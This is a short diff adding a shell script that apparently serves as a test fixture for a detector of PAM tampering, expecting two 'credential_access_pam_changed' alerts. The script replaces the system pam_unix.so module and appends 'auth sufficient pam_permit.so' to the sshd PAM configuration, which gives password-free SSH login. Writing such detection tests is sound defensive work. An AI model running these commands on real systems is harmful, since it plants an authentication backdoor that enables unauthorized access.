@@ -1,0 +1,8 @@
+#!/bin/sh
+# A module of PAM is put into place, and a service needs no password.
+# expects: credential_access_pam_changed 2
+
+mkdir -p /lib/x86_64-linux-gnu/security /etc/pam.d
+touch /tmp/pam_unix.so
+cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so
+sh -c "echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd"
